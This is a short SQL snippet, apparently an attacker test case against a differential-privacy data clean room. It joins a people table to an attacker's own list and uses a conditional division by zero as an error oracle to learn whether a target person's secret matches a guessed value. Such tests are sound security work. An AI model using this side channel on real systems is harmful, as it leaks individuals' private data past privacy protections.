-- purpose: The same where the view must be joined.
-- as: attacker
SELECT CAST(CONCAT('answers: ', CAST(COUNT(*) AS STRING)) AS INT64) AS answers
FROM (
  SELECT WITH DIFFERENTIAL_PRIVACY
    COUNT(*, contribution_bounds_per_group => (0, 1)) AS people
  FROM attacked_room.people AS p
  JOIN attacker_tables.own_list AS l ON p.person = l.person
  WHERE
    CASE
      WHEN p.person != @victim THEN TRUE
      WHEN p.secret = @value THEN 1 / 0 > 0
      ELSE TRUE
    END
)
